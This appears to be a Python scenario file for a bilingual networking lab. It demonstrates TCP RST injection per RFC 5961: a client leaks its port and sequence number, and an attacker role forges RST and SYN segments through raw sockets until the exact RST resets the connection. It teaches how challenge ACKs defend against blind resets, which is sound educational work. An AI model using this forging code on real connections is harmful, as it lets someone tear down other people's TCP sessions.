"""Segments forged in the client's name: which number kills a connection, and which does not."""

from __future__ import annotations

import socket

from lab.evidence.run import Evidence
from lab.packets.rows import frame
from lab.scenarios.base import Promise, Scenario, Seen
from lab.scenarios.checks import counted, returned
from lab.text import Text, same
from lab.topology import Host, Topology
from services import crafted, stage

PORT, LEAK = 12345, 9999
HELLO = b"hello"
PATIENCE = 5.0  # seconds
INSIDE, OUTSIDE = 100, 1 << 30  # beyond RCV.NXT: within the receive window, and far from it


def server() -> None:
    """Take one connection, read, and read again: it will have been reset."""
    with socket.create_server(("", PORT)) as listener:
        connection, _ = listener.accept()
    with connection:
        connection.recv(1024)
        stage.say("still_alive")
        try:
            connection.recv(1024)
        except ConnectionResetError as error:
            print(error, flush=True)
    stage.say("reset")


def client(server: str, attacker: str) -> None:
    """Connect, let the attacker know what it would have to guess, and then go on as before."""
    with crafted.RawTcp() as own, socket.create_connection((server, PORT)) as connection:
        leak(own.receive(PATIENCE), attacker)  # the SYN,ACK
        own.receive(PATIENCE)  # two ACKs that nothing sent by this end explains:
        own.receive(PATIENCE)  # the server questions what came in this client's name
        connection.sendall(HELLO)
        stage.wait("reset")
        connection.sendall(HELLO)  # nobody has told this end
        try:
            connection.recv(1024)
        except ConnectionResetError as error:
            print(error, flush=True)


def leak(synack: crafted.Segment | None, attacker: str) -> None:
    """Tell the attacker the client's port, and the number that the server expects next."""
    assert synack
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as spy:
        words = f"{synack.destination_port} {synack.acknowledgment}"
        spy.sendto(words.encode(), (attacker, LEAK))


def attacker(client: str, server: str) -> None:
    """Forge four segments: RSTs outside and inside the window, a SYN, and the exact RST."""
    with crafted.RawTcp() as raw, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
        ear.bind(("", LEAK))
        port, number = map(int, ear.recv(64).split())
        reset = crafted.Segment(client, server, port, PORT, crafted.RST)
        raw.send(reset._replace(sequence=number + OUTSIDE))  # ignored
        raw.send(reset._replace(sequence=number + INSIDE))  # questioned
        raw.send(reset._replace(sequence=number, flags=crafted.SYN))  # questioned
        stage.wait("still_alive")
        raw.send(reset._replace(sequence=number + len(HELLO)))  # obeyed


def _forged(evidence: Evidence) -> list[tuple[str, int]]:
    """What only the server's port saw, and from the attacker's network card: flags, number."""
    assert evidence.match
    macs = {host.name: host.mac for host in evidence.manifest.hosts}
    isn = evidence.view.connections[0].isn[0] or 0
    alone = [frame(evidence.views[1].capture, int(row)) for row in evidence.match.only_second]
    return [
        (str(one.tcp.flags.name), (one.tcp.sequence - isn) % 2**32)
        for one in alone
        if one.tcp and one.link_source == macs["attacker"]
    ]


def _never_sent_by_the_client(evidence: Evidence) -> Seen:
    forged = _forged(evidence)
    wanted = [("RST", 1 + OUTSIDE), ("RST", 1 + INSIDE), ("SYN", 1), ("RST", 1 + len(HELLO))]
    told = ", ".join(f"{flags} seq {number}" for flags, number in forged)
    return Seen(forged == wanted, same(told))


SCENARIO = Scenario(
    id="rst_injection",
    title=Text("Forged RST", "伪造 RST"),
    group="security",
    level=3,
    teaches=(
        Text(
            "A RST counts only if its sequence number is exactly the next one expected (RCV.NXT)",
            "RST 的序号必须恰好是接收方期待的下一个序号（RCV.NXT），才会生效",
        ),
        Text(
            "A RST elsewhere in the window, and any SYN, is answered with a challenge ACK. A peer that "
            "really lost the connection answers that with the exact RST",
            "序号落在窗口内其他位置的 RST，以及任何 SYN，得到的都是挑战 ACK（challenge ACK）："
            "如果对端真的丢失了连接，就会以序号准确的 RST 回应",
        ),
        Text(
            "A RST outside the window is ignored without a word, so blind guessing has to hit "
            "one number of 2^32, and the ports",
            "窗口之外的 RST 会被直接忽略，因此盲猜必须在 2^32 个序号中命中一个，还要猜中端口",
        ),
        Text(
            "Whoever sees the connection need not guess: here the client lets the attacker know, "
            "and one segment ends it. The client learns of it only when it sends again",
            "能看到连接的人无需猜测：这里由客户端泄露给攻击者，一个报文段就终止了连接。"
            "客户端要到再次发送时才会知道",
        ),
        Text(
            "Two captures prove the forgery: the server's port received what the client's never sent",
            "两处抓包可以证明伪造：服务器端口收到的报文段，客户端端口从未发出",
        ),
    ),
    topology=Topology(
        (
            Host("client", capabilities=("NET_RAW",)),
            # challenge ACKs are limited to one in 500 ms: here each question is answered
            Host("server", sysctls={"net.ipv4.tcp_invalid_ratelimit": "0"}),
            Host("attacker", capabilities=("NET_RAW",)),
        )
    ),
    roles={"server": server, "client": client, "attacker": attacker},
    listens={"server": (f"{PORT}/tcp",), "attacker": (f"{LEAK}/udp",)},
    scripts=(
        """
        C>S SYN      seq 0
        S>C SYN,ACK  seq 0     ack 1
        C>S ACK      seq 1     ack 1
        C>S RST      seq 1073741825   forged
        C>S RST      seq 101          forged
        S>C ACK      seq 1     ack 1  optional
        C>S SYN      seq 1            forged
        S>C ACK      seq 1     ack 1
        S>C ACK      seq 1     ack 1  optional
        C>S PSH,ACK  seq 1 +5  ack 1
        S>C ACK      seq 1     ack 6  optional
        C>S RST      seq 6            forged
        C>S PSH,ACK  seq 6 +5  ack 1
        S>C RST      seq 1
        """,
    ),
    promises=(
        Promise(
            "views_agree",
            Text(
                "the server's port saw four segments in the client's name that the client never sent",
                "服务器端口看到四个冒用客户端名义、而客户端从未发出的报文段",
            ),
            _never_sent_by_the_client,
        ),
        returned(
            "killed",
            Text(
                "the server reads once more after three of them; the exact RST resets the connection",
                "前三个之后服务器仍能读取；序号准确的 RST 才复位了连接",
            ),
            "server",
            "recv",
            "ok",
            "ECONNRESET",
        ),
        returned(
            "late",
            Text(
                "the client hears of it from the server's answer to its next segment",
                "客户端再次发送，从服务器的应答中才得知",
            ),
            "client",
            "recv",
            *("ok", "ok", "ok"),  # of the raw socket: what the client's kernel received
            "ECONNRESET",
        ),
        counted(
            "challenged",
            Text("the server's kernel counts two challenge ACKs", "服务器内核计数：两个挑战 ACK"),
            "server",
            "TcpExt.TCPChallengeACK",
            at_least=2,
            at_most=2,
        ),
        counted(
            "syn_challenged",
            Text("one of them for the SYN", "其中一个是对 SYN 的回应"),
            "server",
            "TcpExt.TCPSYNChallenge",
            at_most=1,
        ),
    ),
    sources=("RFC 5961 section 3.2", "RFC 5961 section 4.2", "RFC 9293 section 3.10.7.4"),
)
